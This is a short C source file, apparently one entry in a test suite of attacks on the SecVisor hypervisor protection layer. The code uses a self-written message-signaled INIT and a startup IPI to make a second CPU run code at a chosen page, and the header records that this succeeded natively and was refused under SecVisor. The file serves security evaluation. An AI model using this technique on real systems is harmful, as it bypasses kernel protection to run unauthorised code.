// Row 27. INIT to the second CPU by a message (MSI) that the first CPU writes itself, then a start-up command.
// Source: AMD64 APM 2, 16.11 (message signaled interrupts); QEMU takes them from CPUs, too (hw/intc/apic.c).
// Ends: natively succeeded; beneath SecVisor refused, apic.
#include "common/attack.h"
#include <unistd.h>

ATTACK("init-message")
{
	u64 page = prepare_start(), apic = map_physical(0xfee00000, KERNEL_DATA | 0x18);
	u64 message = map_physical(0xfee01000, KERNEL_DATA | 0x18);

	if (set_online(1, 0))
		failed("the second CPU stays online");
	about_to("send INIT by a message");
	operate(VULNERABLE_STORE, message, 0x4500, 4);
	usleep(20000);
	operate(VULNERABLE_STORE, apic + 0x310, 1 << 24, 4);
	operate(VULNERABLE_STORE, apic + 0x300, 0x4600 | START_PAGE >> 12, 4);
	if (seen(page))
		succeeded("the second CPU ran code at %#llx", START_PAGE);
	refused("the second CPU did not start at %#llx", START_PAGE);
}
